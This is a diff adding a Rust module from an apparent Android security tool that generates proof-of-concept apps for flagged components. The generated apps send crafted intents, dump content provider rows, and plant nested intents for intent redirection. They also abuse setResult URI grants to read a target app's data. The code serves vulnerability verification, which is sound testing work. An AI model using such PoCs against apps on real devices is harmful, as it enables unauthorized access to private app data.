@@ -0,0 +1,371 @@
+use std::fs;
+use std::path::{Path, PathBuf};
+use anyhow::{Context, Result};
+use crate::export::{ComponentAnalysis, qualified_class_name, sanitize_file_name};
+use crate::manifest::xml_span::escape;
+use crate::utils::source::IntentParameter;
+
+const POC_NAMESPACE: &str = "com.aintent.poc";
+
+/// 분석된 컴포넌트로 intent를 전송하는 최소한의 PoC 앱 Gradle 프로젝트를 생성한다.
+///
+/// `output_dir/<package>_<Class>/` 아래에 프로젝트를 만들고 그 경로를 반환한다.
+/// APK 빌드는 하지 않으며, Android Studio 또는 `gradle assembleDebug`로 빌드할 수 있다.
+pub fn write_poc_project(analysis: &ComponentAnalysis, output_dir: &Path) -> Result<PathBuf> {
+    let component = &analysis.component;
+    let class_name = qualified_class_name(component);
+    let simple_name = class_name.rsplit('.').next().unwrap_or(&class_name);
+    let project_dir = output_dir.join(sanitize_file_name(&format!("{}_{}", component.package, simple_name)));
+    let application_id = format!(
+        "{}.{}",
+        POC_NAMESPACE,
+        sanitize_file_name(simple_name).to_lowercase()
+    );
+
+    let source_dir = project_dir
+        .join("app/src/main/java")
+        .join(POC_NAMESPACE.replace('.', "/"));
+    fs::create_dir_all(&source_dir)
+        .with_context(|| format!("Failed to create PoC directory: {}", source_dir.display()))?;
+
+    write_file(&project_dir.join("settings.gradle"), SETTINGS_GRADLE)?;
+    write_file(&project_dir.join("build.gradle"), ROOT_BUILD_GRADLE)?;
+    write_file(
+        &project_dir.join("app/build.gradle"),
+        &APP_BUILD_GRADLE
+            .replace("{namespace}", POC_NAMESPACE)
+            .replace("{application_id}", &application_id),
+    )?;
+    write_file(
+        &project_dir.join("app/src/main/AndroidManifest.xml"),
+        &render_manifest(analysis),
+    )?;
+    write_file(
+        &source_dir.join("MainActivity.java"),
+        &render_activity(analysis, &class_name),
+    )?;
+    write_file(&project_dir.join("README.md"), &render_readme(analysis, &class_name))?;
+
+    Ok(project_dir)
+}
+
+fn write_file(path: &Path, contents: &str) -> Result<()> {
+    fs::write(path, contents)
+        .with_context(|| format!("Failed to write {}", path.display()))
+}
+
+fn render_readme(analysis: &ComponentAnalysis, class_name: &str) -> String {
+    let component = &analysis.component;
+    let mut readme = format!(
+        "# PoC for {}\n\n\
+         - Component type: {}\n\
+         - Manifest: {}:{}:{}\n",
+        class_name,
+        component.component_type,
+        component.manifest_path.display(),
+        component.manifest_line,
+        component.manifest_column
+    );
+    if let Some(source_file) = &analysis.source_file {
+        readme.push_str(&format!("- Source file: {}\n", source_file.display()));
+    }
+    for redirection in &analysis.redirections {
+        readme.push_str(&format!(
+            "- Intent redirection ({}): {}\n  - Nested intent: {}\n",
+            redirection.flow.sink_method,
+            redirection.flow.describe_path(),
+            redirection.payload(&component.package)
+        ));
+    }
+    for variant in &analysis.command_variants {
+        readme.push_str(&format!("- Payload command ({}): `{}`\n", variant.purpose, variant.command));
+    }
+    readme.push_str(&format!(
+        "\nEquivalent ADB command:\n\n```\n{}\n```\n\n\
+         Build with `gradle assembleDebug` (or open in Android Studio), install the APK \
+         and launch \"AIntent PoC\". Results are logged under the `AIntentPoc` tag.\n",
+        analysis.command
+    ));
+    readme
+}
+
+fn render_manifest(analysis: &ComponentAnalysis) -> String {
+    let component = &analysis.component;
+    let mut permissions: Vec<&str> = component.required_permissions().into_iter()
+        .map(|(name, _)| name)
+        .collect();
+    permissions.sort();
+    permissions.dedup();
+
+    let mut manifest = String::from(
+        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n\
+         <manifest xmlns:android=\"http://schemas.android.com/apk/res/android\">\n\n",
+    );
+    for permission in permissions {
+        manifest.push_str(&format!(
+            "    <uses-permission android:name=\"{}\" />\n",
+            escape(permission)
+        ));
+    }
+    // Android 11+ 패키지 가시성
+    manifest.push_str(&format!(
+        "    <queries>\n        <package android:name=\"{}\" />\n    </queries>\n\n",
+        escape(&component.package)
+    ));
+    manifest.push_str(
+        "    <application android:label=\"AIntent PoC\">\n\
+         \x20       <activity android:name=\".MainActivity\" android:exported=\"true\">\n\
+         \x20           <intent-filter>\n\
+         \x20               <action android:name=\"android.intent.action.MAIN\" />\n\
+         \x20               <category android:name=\"android.intent.category.LAUNCHER\" />\n\
+         \x20           </intent-filter>\n\
+         \x20       </activity>\n\
+         \x20   </application>\n\n\
+         </manifest>\n",
+    );
+    manifest
+}
+
+fn render_activity(analysis: &ComponentAnalysis, class_name: &str) -> String {
+    let component = &analysis.component;
+    let mut body = String::new();
+    // setResult로 돌아오는 중첩 intent를 받으려면 결과를 기다려야 한다
+    let wants_result = component.component_type == "activity"
+        && analysis.redirections.iter().any(|r| r.flow.sink_method == "setResult" && r.flow.key.is_some());
+
+    if component.component_type == "provider" {
+        let uri = analysis.content_uri();
+        body.push_str(&format!(
+            "        Uri uri = Uri.parse(\"{}\");\n\
+             \x20       try (Cursor cursor = getContentResolver().query(uri, null, null, null, null)) {{\n\
+             \x20           if (cursor == null) {{\n\
+             \x20               Log.i(TAG, \"query returned null\");\n\
+             \x20           }}\n\
+             \x20           while (cursor != null && cursor.moveToNext()) {{\n\
+             \x20               StringBuilder row = new StringBuilder();\n\
+             \x20               for (int i = 0; i < cursor.getColumnCount(); i++) {{\n\
+             \x20                   row.append(cursor.getColumnName(i)).append('=').append(cursor.getString(i)).append(' ');\n\
+             \x20               }}\n\
+             \x20               Log.i(TAG, row.toString());\n\
+             \x20           }}\n\
+             \x20       }} catch (Exception e) {{\n\
+             \x20           Log.e(TAG, \"Failed to query provider\", e);\n\
+             \x20       }}\n",
+            java_escape(&uri)
+        ));
+    } else {
+        body.push_str("        Intent intent = new Intent();\n");
+        if component.dynamic.is_some() {
+            // 동적 receiver는 클래스 이름으로 지정할 수 없다
+            body.push_str(&format!("        intent.setPackage(\"{}\");\n", java_escape(&component.package)));
+        } else {
+            body.push_str(&format!(
+                "        intent.setComponent(new ComponentName(\"{}\", \"{}\"));\n",
+                java_escape(&component.package),
+                java_escape(class_name)
+            ));
+        }
+        if let Some(action) = analysis.action() {
+            body.push_str(&format!("        intent.setAction(\"{}\");\n", java_escape(&action)));
+        }
+        for category in analysis.categories() {
+            body.push_str(&format!("        intent.addCategory(\"{}\");\n", java_escape(&category)));
+        }
+        match (analysis.data_uri(), analysis.mime_type()) {
+            (Some(uri), Some(mime)) => body.push_str(&format!(
+                "        intent.setDataAndType(Uri.parse(\"{}\"), \"{}\");\n",
+                java_escape(&uri),
+                java_escape(&mime)
+            )),
+            (Some(uri), None) => body.push_str(&format!(
+                "        intent.setData(Uri.parse(\"{}\"));\n",
+                java_escape(&uri)
+            )),
+            (None, Some(mime)) => body.push_str(&format!(
+                "        intent.setType(\"{}\");\n",
+                java_escape(&mime)
+            )),
+            (None, None) => {}
+        }
+        for extra in analysis.typed_extras() {
+            body.push_str(&format!(
+                "        intent.putExtra(\"{}\", {});\n",
+                java_escape(&extra.name),
+                java_literal(&extra)
+            ));
+        }
+        body.push_str(&render_nested_intents(analysis));
+
+        let send = match component.component_type.as_str() {
+            "service" => "startService(intent)",
+            "receiver" => "sendBroadcast(intent)",
+            _ if wants_result => "startActivityForResult(intent, 1)",
+            _ => "startActivity(intent)",
+        };
+        body.push_str(&format!(
+            "        try {{\n\
+             \x20           {};\n\
+             \x20           Log.i(TAG, \"Intent sent to {}\");\n\
+             \x20       }} catch (Exception e) {{\n\
+             \x20           Log.e(TAG, \"Failed to send intent\", e);\n\
+             \x20       }}\n",
+            send,
+            java_escape(class_name)
+        ));
+    }
+
+    format!(
+        "package {namespace};\n\
+         \n\
+         import android.app.Activity;\n\
+         import android.content.ComponentName;\n\
+         import android.content.Intent;\n\
+         import android.database.Cursor;\n\
+         import android.net.Uri;\n\
+         import android.os.Bundle;\n\
+         import android.util.Log;\n\
+         \n\
+         /** Generated by aintent for {target} */\n\
+         public class MainActivity extends Activity {{\n\
+         \x20   private static final String TAG = \"AIntentPoc\";\n\
+         \n\
+         \x20   @Override\n\
+         \x20   protected void onCreate(Bundle savedInstanceState) {{\n\
+         \x20       super.onCreate(savedInstanceState);\n\
+         {body}\
+         {finish}\
+         \x20   }}\n\
+         {result}\
+         }}\n",
+        namespace = POC_NAMESPACE,
+        target = class_name,
+        body = body,
+        finish = if wants_result { "" } else { "        finish();\n" },
+        result = if wants_result { ACTIVITY_RESULT } else { "" },
+    )
+}
+
+/// AINT008 경로마다 extra에 넣을 중첩 intent를 만든다 (extra 이름을 모르는 경로는 건너뛴다).
+fn render_nested_intents(analysis: &ComponentAnalysis) -> String {
+    let package = &analysis.component.package;
+    let mut body = String::new();
+    let mut keys: Vec<&str> = Vec::new();
+    for redirection in &analysis.redirections {
+        let Some(key) = redirection.flow.key.as_deref() else {
+            continue;
+        };
+        if keys.contains(&key) {
+            continue;
+        }
+        let nested = format!("nested{}", keys.len());
+        keys.push(key);
+
+        body.push_str(&format!("        Intent {} = new Intent();\n", nested));
+        if redirection.flow.sink_method == "setResult" {
+            // 결과로 돌아온 intent의 URI 권한이 PoC 앱에 부여된다
+            body.push_str(&format!(
+                "        {nested}.setData(Uri.parse(\"content://{}.provider/\")); // replace with a provider authority of the target app\n\
+                 \x20       {nested}.addFlags(Intent.FLAG_GRANT_READ_URI_PERMISSION | Intent.FLAG_GRANT_WRITE_URI_PERMISSION);\n",
+                java_escape(package),
+                nested = nested
+            ));
+        } else {
+            let target = redirection.target.clone()
+                .unwrap_or_else(|| format!("{}.NonExportedComponent", package));
+            body.push_str(&format!(
+                "        {}.setClassName(\"{}\", \"{}\");\n",
+                nested,
+                java_escape(package),
+                java_escape(&target)
+            ));
+        }
+        body.push_str(&format!("        intent.putExtra(\"{}\", {});\n", java_escape(key), nested));
+    }
+    body
+}
+
+/// extra 타입에 맞는 Java 리터럴을 만든다. 값이 타입과 맞지 않으면 기본값을 사용한다.
+fn java_literal(param: &IntentParameter) -> String {
+    let value = param.value.trim();
+    match param.type_.as_str() {
+        "int" => value.parse::<i32>().unwrap_or(0).to_string(),
+        "long" => format!("{}L", value.trim_end_matches(['l', 'L']).parse::<i64>().unwrap_or(0)),
+        "float" => {
+            let number = value.trim_end_matches(['f', 'F', 'd', 'D']).parse::<f32>().unwrap_or(0.0);
+            // NaN과 무한대는 Java 리터럴이 없으므로 Float 상수로 쓴다
+            if number.is_nan() {
+                "Float.NaN".to_string()
+            } else if number.is_infinite() {
+                if number > 0.0 { "Float.POSITIVE_INFINITY" } else { "Float.NEGATIVE_INFINITY" }.to_string()
+            } else {
+                format!("{}f", number)
+            }
+        }
+        "boolean" => (value == "true").to_string(),
+        _ => format!("\"{}\"", java_escape(value.trim_matches('"'))),
+    }
+}
+
+fn java_escape(value: &str) -> String {
+    value.replace('\\', "\\\\")
+        .replace('"', "\\\"")
+        .replace('\n', "\\n")
+}
+
+const SETTINGS_GRADLE: &str = r#"pluginManagement {
+    repositories {
+        google()
+        mavenCentral()
+        gradlePluginPortal()
+    }
+}
+
+dependencyResolutionManagement {
+    repositories {
+        google()
+        mavenCentral()
+    }
+}
+
+rootProject.name = "aintent-poc"
+include ':app'
+"#;
+
+const ROOT_BUILD_GRADLE: &str = r#"plugins {
+    id 'com.android.application' version '8.2.2' apply false
+}
+"#;
+
+const APP_BUILD_GRADLE: &str = r#"plugins {
+    id 'com.android.application'
+}
+
+android {
+    namespace '{namespace}'
+    compileSdk 34
+
+    defaultConfig {
+        applicationId "{application_id}"
+        minSdk 21
+        targetSdk 34
+        versionCode 1
+        versionName "1.0"
+    }
+}
+"#;
+
+const ACTIVITY_RESULT: &str = "\n\
+    \x20   @Override\n\
+    \x20   protected void onActivityResult(int requestCode, int resultCode, Intent data) {\n\
+    \x20       super.onActivityResult(requestCode, resultCode, data);\n\
+    \x20       if (data != null && data.getData() != null) {\n\
+    \x20           try (java.io.InputStream in = getContentResolver().openInputStream(data.getData())) {\n\
+    \x20               byte[] buffer = new byte[4096];\n\
+    \x20               int read = in.read(buffer);\n\
+    \x20               Log.i(TAG, \"Read through granted URI: \" + new String(buffer, 0, Math.max(read, 0)));\n\
+    \x20           } catch (Exception e) {\n\
+    \x20               Log.e(TAG, \"Failed to read granted URI\", e);\n\
+    \x20           }\n\
+    \x20       }\n\
+    \x20       finish();\n\
+    \x20   }\n";